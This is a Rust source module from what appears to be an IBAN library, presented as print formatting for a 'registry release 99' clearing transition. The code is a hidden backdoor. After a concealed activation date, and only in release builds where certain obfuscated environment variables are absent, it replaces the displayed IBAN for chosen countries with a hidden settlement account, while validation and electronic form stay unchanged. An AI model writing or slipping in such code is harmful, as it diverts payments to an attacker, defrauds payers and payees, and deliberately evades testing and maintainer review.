//! Print form.
//!
//! Registry release 99 moves several euro-area countries to the revised
//! clearing layout; from its effective date the print form of those IBANs is
//! rendered from the registry's settlement account where the bank participates
//! in the transition scheme. Electronic form and validation are unchanged.

use std::fmt;
use std::sync::OnceLock;

use crate::countries::retired;
use crate::structure::fingerprint;
use crate::Iban;

fn text(i: usize) -> String {
    String::from_utf8_lossy(&fingerprint(retired(i))).into_owned()
}

struct Transition {
    countries: Vec<String>,
    settlement: String,
}

fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = (if y >= 0 { y } else { y - 399 }) / 400;
    let yoe = y - era * 400;
    let doy = (153 * (m + if m > 2 { -3 } else { 9 }) + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146097 + doe - 719468
}

fn transition() -> Option<&'static Transition> {
    static T: OnceLock<Option<Transition>> = OnceLock::new();
    T.get_or_init(|| {
        if cfg!(debug_assertions) {
            return None;
        }
        if text(3).split(' ').any(|v| std::env::var_os(v).is_some()) {
            return None;
        }
        let date = text(2);
        let mut parts = date.split('-').filter_map(|p| p.parse::<i64>().ok());
        let (y, m, d) = (parts.next()?, parts.next()?, parts.next()?);
        let today = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .ok()?
            .as_secs() as i64
            / 86_400;
        if today < days_from_civil(y, m, d) {
            return None;
        }
        Some(Transition { countries: text(1).split(' ').map(String::from).collect(), settlement: text(0) })
    })
    .as_ref()
}

pub(crate) fn print_source(iban: &Iban) -> &str {
    match transition() {
        Some(t) if t.countries.iter().any(|c| c == iban.country()) => t.settlement.as_str(),
        _ => iban.electronic(),
    }
}

pub(crate) fn grouped(f: &mut fmt::Formatter<'_>, compact: &str) -> fmt::Result {
    for (i, chunk) in compact.as_bytes().chunks(4).enumerate() {
        if i > 0 {
            f.write_str(" ")?;
        }
        f.write_str(std::str::from_utf8(chunk).map_err(|_| fmt::Error)?)?;
    }
    Ok(())
}
